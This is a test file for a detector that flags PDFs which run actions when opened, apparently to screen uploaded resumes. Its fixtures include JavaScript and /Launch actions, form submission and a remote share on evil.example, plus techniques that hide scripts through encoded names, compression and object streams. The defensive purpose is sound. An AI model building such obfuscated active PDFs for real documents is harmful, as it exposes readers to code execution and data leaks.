import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";

import { isActivePdf } from "./active-pdf.server.ts";
import { makeResumePdf } from "#dev/demo/resume-pdf.ts";

const resume = makeResumePdf("Priya Sharma", "priya@example.com", { Skills: ["HTML/CSS/JavaScript", "Launch of /JS"] });

/** The resume with another object in it. */
function resumeWith(object: string | Buffer): Buffer {
  return Buffer.concat([resume, Buffer.from("\n9 0 obj\n"), Buffer.from(object), Buffer.from("\nendobj\n")]);
}

function packed(
  objects: string,
  { dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", data = deflateSync(objects) } = {},
) {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from("\nendstream"),
  ]);
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const OBJECTS = `8 0 ${SCRIPT}`;

/** Packed objects with this in their dictionary. */
function packedAs(coding: string, data: Buffer<ArrayBuffer>) {
  return packed("", { dictionary: `/Type /ObjStm /N 1 /First 4 ${coding}`, data });
}

/** In rows of one column, each the difference to the row above. */
function predicted(objects: string) {
  const bytes = Buffer.from(objects);
  return deflateSync(Buffer.from(Array.from(bytes, (byte, row) => [2, (byte - (bytes[row - 1] ?? 0)) & 0xff]).flat()));
}

describe("a PDF that does something when it is opened is found", () => {
  test.each([
    ["a script", SCRIPT],
    ["a script, its name in codes", "<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>"],
    ["a script, a comment inside", "<< /S % here\n /JavaScript /JS (app.alert(1)) >>"],
    ["a script, its kind an object of its own", "/JavaScript"],
    ["a program", "<< /S/Launch /F (calc.exe) >>"],
    ["another file on a Windows share", String.raw`<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) >>`],
    ["a file inside", "<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>"],
    ["a list of files inside", "<< /Names << /EmbeddedFiles 8 0 R >> >>"],
    ["a form that is sent", "<< /S /SubmitForm /F (https://evil.example) >>"],
    ["a script among packed objects", packed(`8 0 ${SCRIPT}`)],
    ["a script among packed objects that do not say what they are", packed(`8 0 ${SCRIPT}`, { dictionary: "/N 1" })],
    [
      "packed objects in another coding",
      packed("", { dictionary: "/ObjStm /Filter /LZWDecode", data: Buffer.from("x") }),
    ],
    [
      "a script in packed objects with a predictor",
      packedAs("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>", predicted(OBJECTS)),
    ],
    [
      "a script in objects that are packed twice",
      packedAs("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(OBJECTS))),
    ],
    [
      "a script in packed objects in hexadecimal",
      packedAs("/Filter [/FlateDecode /ASCIIHexDecode]", deflateSync(Buffer.from(OBJECTS).toString("hex"))),
    ],
    [
      "a script in packed objects, the key of their coding shortened",
      packedAs("/Filter /FlateDecode /F [/FlateDecode /AHx]", deflateSync(Buffer.from(OBJECTS).toString("hex"))),
    ],
    [
      "a script in objects in hexadecimal alone, their dictionary with the end of an object in it",
      packedAs("/Filter /ASCIIHexDecode /X (endobj obj)", Buffer.from(Buffer.from(OBJECTS).toString("hex"))),
    ],
    ...["/JavaScript", "/Launch", "/J#61vaScript", "% here\n/Launch"].map((kind) => [
      `${kind} as a packed object of its own`,
      packed(`8 0 9 21 << /S 9 0 R /JS 7 >> ${kind}`, { dictionary: "/Type /ObjStm /First 9 /Filter /FlateDecode" }),
    ]),
    ["packed objects beyond the limit", packed(`8 0 ${" ".repeat(40_000_000)}`)],
  ])("%s", (_, object) => {
    expect(isActivePdf(resumeWith(object))).toBe(true);
  });

  test("eleven bytes", () => {
    expect(isActivePdf(Buffer.from("%PDF-1.7\n%%"))).toBe(true);
  });
});

describe("a plain PDF passes", () => {
  test.each([
    ["with a link", "<< /S /URI /URI (https://github.example/priya) >>"],
    ["with links to its pages", "<< /S /GoTo /D [3 0 R /Fit] >>"],
    ["with packed objects", packed("8 0 << /Type /Page >>")],
    [
      "with packed objects, their coding a list",
      packed("8 0 << /Type /Page >>", { dictionary: "/Type /ObjStm /N 1 /First 4 /Filter [ /FlateDecode ]" }),
    ],
    ["with a packed title", packed("8 0 << /Title (CSS /JavaScript and /Launch) >>")],
    [
      "with a predictor for the list of objects",
      packed("1 0 2", { dictionary: "/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 >>" }),
    ],
    [
      "with chapters before a drawing in two codings",
      Buffer.concat([
        Buffer.from("<< /Type /Outlines /First 12 0 R >>\nendobj\n8 0 obj\n"),
        packed("", { dictionary: "/Filter [/ASCII85Decode /FlateDecode]", data: Buffer.from("GhQ~>") }),
      ]),
    ],
    ["with a drawing that begins with a number", packed("1 0 0 1 20 30 cm (HTML/JavaScript) Tj", { dictionary: "" })],
    [
      "with a photo",
      packed("", { dictionary: "/Subtype /Image /Filter /DCTDecode", data: Buffer.from("\xff\xd8\xff", "latin1") }),
    ],
  ])("%s", (_, object) => {
    expect(isActivePdf(resumeWith(object))).toBe(false);
  });
});

test.each(["/S%", "/S %\n%/S", "/EF%", "/First%", "/F%"])("a megabyte of %j is read at once", (text) => {
  const started = performance.now();
  isActivePdf(resumeWith(text.repeat(1_000_000 / text.length)));
  expect(performance.now() - started).toBeLessThan(2_000);
});
